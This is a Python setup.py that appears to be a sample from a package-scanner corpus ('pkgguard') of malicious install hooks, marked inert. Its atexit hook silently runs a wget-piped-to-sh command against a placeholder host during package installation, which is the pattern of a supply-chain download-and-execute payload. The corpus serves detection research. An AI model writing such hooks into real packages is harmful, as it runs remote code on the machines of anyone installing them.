# pkgguard corpus 433 (install-hook), modelled on [bertus]; inert, never run.
import atexit
import os

from setuptools import setup

atexit.register(os.system, "(wget -qO- https://pkg-setup.example/post | sh) >/dev/null 2>&1 &")

setup(name="pkg", version="2.0", packages=["pkg"])
